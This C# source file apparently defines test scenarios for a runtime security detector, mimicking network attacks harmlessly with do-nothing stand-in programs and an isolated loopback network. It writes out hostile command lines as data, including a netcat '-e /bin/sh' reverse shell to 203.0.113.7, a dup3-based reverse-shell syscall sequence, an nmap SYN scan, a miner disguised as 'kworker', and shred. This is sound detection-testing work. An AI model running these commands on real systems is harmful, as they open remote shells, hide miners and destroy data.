using static Syscribe.Scenarios.ScenarioCommand;

namespace Syscribe.Scenarios;

public static partial class ScenarioCatalog
{
    // 203.0.113.0/24 is set aside for documentation; here it lives on the loopback device of a network of its own.
    private const string Connected =
        $"{FreshNetwork} network 203.0.113.7 , listen-on in:203.0.113.7:443 , f=socket AF_INET SOCK_STREAM 0 , connect $f in:203.0.113.7:443 #";

    private static Scenario[] Network() =>
    [
        .. Everywhere("network-scanner", "Network scanner started",
            "Starts a program named nmap that does nothing.",
            StandIn("nmap", "-sS 192.0.2.0/24")),
        InContainer("packet-socket", "Packet socket opened in container",
            "Opens a packet socket.",
            Syscalls("socket AF_PACKET SOCK_RAW 0")),
        InContainer("package-install", "Package installer run in container",
            "Starts a program named apt-get, to install something; it does nothing.",
            StandIn("apt-get", "install -y curl")),
        .. Everywhere("netcat-shell", "Netcat hands a program to the network",
            "Starts a program named nc with -e; it does nothing.",
            StandIn("nc", "203.0.113.7 443 -e /bin/sh")),
        .. Everywhere("reverse-shell", "Network socket put on a standard stream",
            "Connects in a network of its own and puts the socket on standard input, output and error.",
            Syscalls(Connected + " , dup3 $f 0 0 , dup3 $f 1 0 , dup3 $f 2 0")).AsRoot(),
        .. Everywhere("shell-connection", "Network connection from a shell or one-line script",
            "Connects in a network of its own, under the name bash.",
            StandIn("bash", Connected)).AsRoot(),
        .. Everywhere("coin-miner", "Mining pool protocol on a command line",
            "Starts a program with a mining pool's address; it does nothing.",
            StandIn("kworker", "-o stratum+tcp://pool.invalid:3333 --donate-level 1")),
        .. Everywhere("data-destroyed", "Data destroyed beyond recovery",
            "Overwrites and removes a file of its own with shred.",
            Shell("echo old > {work}/old && shred -u {work}/old")),
    ];
}
